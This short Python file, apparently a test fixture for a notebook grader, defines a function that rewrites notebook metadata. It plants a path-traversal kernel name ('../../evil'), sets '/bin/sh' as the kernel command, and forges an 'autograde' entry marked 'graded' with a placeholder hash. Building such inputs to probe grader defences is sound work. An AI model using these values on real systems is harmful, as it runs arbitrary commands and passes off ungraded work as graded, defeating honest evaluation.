"""Ask for another kernel, with a command of one's own."""


def forge(notebook):
    notebook["metadata"] = {"kernelspec": {"name": "../../evil", "display_name": "x", "language": "bash", "argv": ["/bin/sh"]},
                            "language_info": {"name": "bash"}, "autograde": {"sha256": "0", "status": "graded"}}
